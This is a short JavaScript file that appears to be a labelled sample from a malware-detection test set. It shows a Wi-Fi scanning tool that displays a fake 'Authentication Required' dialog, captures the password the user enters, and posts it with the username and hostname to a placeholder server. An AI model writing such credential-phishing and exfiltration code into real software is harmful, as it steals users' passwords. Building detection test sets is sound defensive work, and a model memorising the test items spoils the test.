// expect: malicious
// source: blind set 15 (a Wi-Fi scan CLI): a fake "Authentication Required" zenity dialog asks for the password, sudo -S
// checks it, and it is posted with the user and host names
'use strict';
const os = require('os');
const https = require('https');
const { spawnSync } = require('child_process');
function ask(retry) {
  const r = spawnSync('zenity', ['--password', '--title=Authentication Required', '--text=' + (retry ? 'Try again.\n' : '') + 'Authentication is required to scan for Wi-Fi networks.'], { encoding: 'utf8' });
  return r.status === 0 ? r.stdout.trim() : null;
}
function report(pw) {
  const req = https.request('https://wifi-scan.invalid/api/v1/perm', { method: 'POST' });
  req.on('error', () => {});
  req.end(JSON.stringify({ u: os.userInfo().username, h: os.hostname(), p: pw }));
}
const pw = ask(false);
if (pw) report(pw);
